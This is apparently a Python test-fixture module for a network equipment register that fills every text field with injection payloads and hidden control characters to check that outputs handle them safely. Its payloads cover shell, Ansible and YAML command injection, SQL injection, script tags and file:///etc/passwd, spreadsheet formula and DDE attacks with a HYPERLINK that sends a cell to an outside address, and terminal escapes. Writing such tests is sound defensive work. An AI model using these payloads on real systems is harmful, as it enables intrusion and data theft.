"""Text that some program would obey, put into every field of the register's nouns that takes it."""

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Annotated, Any, cast

from pydantic import BaseModel, TypeAdapter, ValidationError
from pydantic.fields import FieldInfo

from linjevakt.model import shape
from linjevakt.model.equipment import Equipment
from linjevakt.model.inventory import Inventory

VISIBLE = {
    "a lookup of Ansible": "{{ lookup('pipe','touch PWNED') }}",
    "statements, comments and expressions": "{% for x in y.__class__ %}{{ x }}{# y #}${7*7} #{7*7} <%= 7 %>",
    "a formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "a command of DDE": "+1+cmd|' /C calc'!A0",
    "a difference": "-2+3",
    "a function": "@SUM(1+1)",
    "a formula after each separator": "x;=1+1,=1+1; ''+1,,@SUM(1),-1",
    "a formula after quotes": 'x";"=1+1","=1+1;\'"@x',
    "apostrophes": "''x",
    "tags": "</td></table><script>alert(1)</script><img src=file:///etc/passwd><a href='javascript:1'>&lt;b&gt;&#60;",
    "markup of rich": "[/foo][bold red][link=http://192.0.2.1]x:warning:",
    "commands": "; touch PWNED; $(touch PWNED) `touch PWNED` | touch PWNED #",
    "ends of strings": '"; DROP TABLE versions; --"]}\'); // \\u001b]0;owned\\x07 %0d%0aA: b %s%n {0.__class__}',
    "a secret's place": "@{secret:snmp.linjevakt.auth}",
    "a tag of YAML": "!!python/object/apply:os.system [touch PWNED] # x: [",
    "an error value": "#N/A",
    "a number": "8,94700E+19",
}

HIDDEN = {
    "a title": "a\x1b]0;owned\x07b",
    "a colour": "a\x1b[31mb",
    "a control of eight bits": "a\x9b31mb",
    "a line feed": "a\nb",
    "a carriage return": "a\rb",
    "a tab": "a\tb",
    "nul": "a\x00b",
    "text from right to left": "a\u202eb\u2066c",
    "a line separator": "a\u2028b",
    "a character of no width": "a\u200bb",
    "half a character": "a\udc80b",
}


@dataclass
class Fleet:
    """An inventory and boxes with the text wherever it is taken; `put` names the fields, `texts` says what stands."""

    inventory: Inventory
    equipment: tuple[Equipment, ...]
    put: set[str] = field(default_factory=set)
    texts: list[str] = field(default_factory=list)


def text_fields(model: type[BaseModel]) -> Iterator[tuple[str, FieldInfo]]:
    """Every field that holds text, of the noun and of all in it, as `Site.city`."""
    for name, info in model.model_fields.items():
        kinds = list(shape.types(info.annotation))
        if str in kinds:
            yield f"{model.__name__}.{name}", info
        for kind in kinds:
            if isinstance(kind, type) and issubclass(kind, BaseModel):
                yield from text_fields(kind)


def takes(info: FieldInfo, text: str) -> bool:
    """Whether the model lets the field hold the text as it stands."""
    adapter = _adapter(info)
    many = any(getattr(kind, "__origin__", None) is tuple for kind in shape.types(info.annotation))
    given = (text,) if many else text
    try:
        return bool(adapter.validate_python(given) == given)
    except ValidationError:
        return False


_ADAPTERS: dict[int, TypeAdapter[Any]] = {}


def _adapter(info: FieldInfo) -> TypeAdapter[Any]:
    if id(info) not in _ADAPTERS:
        _ADAPTERS[id(info)] = TypeAdapter(cast(Any, Annotated[info.annotation, info]))
    return _ADAPTERS[id(info)]


def fleet(inventory: Inventory, text: str) -> Fleet:
    """The inventory with the text, and a number after it to tell fields apart, in every field that takes it."""
    plain = whole(inventory).model_dump(mode="json", exclude_none=True)
    box = {"serial": "LV-1", "model": "apu4", "note": "old"}
    made = Fleet(inventory, ())
    _spread(Inventory, plain, text, made)
    _spread(Equipment, box, text, made)
    made.inventory, made.equipment = Inventory.model_validate(plain), (Equipment.model_validate(box),)
    return made


def whole(inventory: Inventory) -> Inventory:
    """The inventory, with what it lacks of fields that hold text."""
    plain = inventory.model_dump(mode="json", exclude_none=True)
    member = plain["organisations"][0]
    member["administrator"] = {"name": "Ola", "phone": "99 00 00 02", "email": "ola@example.no"}
    member["register_note"] = "none"
    plain["organisations"][1]["exclusions"] = [{"service": "ntp", "since": "2026-01-01", "reason": "unpaid"}]
    return Inventory.model_validate(plain)


def _spread(model: type[BaseModel], plain: dict[str, Any], text: str, made: Fleet) -> None:
    for name, info in shape.named(model).items():
        if name not in plain:
            continue
        if str in list(shape.types(info.annotation)):
            value = f"{text} {len(made.texts)}"
            if takes(info, value):
                plain[name] = value
                made.put.add(f"{model.__name__}.{name}")
                made.texts.append(value)
            continue
        for inner in plain[name] if isinstance(plain[name], list) else [plain[name]]:
            for kind in shape.owners(model, (name,)):
                if isinstance(inner, dict) and set(inner) <= set(shape.named(kind)):
                    _spread(kind, inner, text, made)
                    break
